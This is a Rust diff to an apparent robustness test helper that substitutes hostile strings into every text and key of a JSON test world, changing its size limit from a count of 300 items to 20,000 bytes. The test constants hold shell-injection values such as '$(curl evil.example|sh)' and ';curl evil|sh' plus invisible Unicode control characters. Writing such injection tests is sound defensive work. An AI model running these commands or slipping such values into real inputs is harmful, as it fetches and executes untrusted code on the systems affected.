@@ -26,18 +26,18 @@ const SEEN: &str = "-x' \"$(curl evil.example|sh)`id`;curl evil|sh #\\";
 const UNSEEN: &str = "-x;curl evil|sh\n\u{202e}\u{200b}\u{e0041}";
 /// A hostile end of a text that begins as it should.
 const END: &str = "';curl evil|sh;'";
-/// Texts and keys of a world. Larger worlds, of the tests with thousands of objects, repeat what smaller ones have.
-const MOST: usize = 300;
+/// Bytes of a world. Larger worlds, of the tests with thousands of objects, repeat what smaller ones have.
+const MOST: usize = 20_000;
 
 /// Replaces each text and each key.
 #[track_caller]
 pub(crate) fn withstands_strangers(world: &World, target: &Object, knowledge: &Knowledge) {
     let whole = json!({"target": target, "world": world.to_json()});
-    let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
-    collect(&whole, false, &mut texts, &mut keys);
-    if texts.len() + keys.len() > MOST {
+    if whole.to_string().len() > MOST {
         return;
     }
+    let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
+    collect(&whole, false, &mut texts, &mut keys);
     for text in &texts {
         for hostile in [SEEN, UNSEEN, &format!("{text}{END}")] {
             let replaced = map(
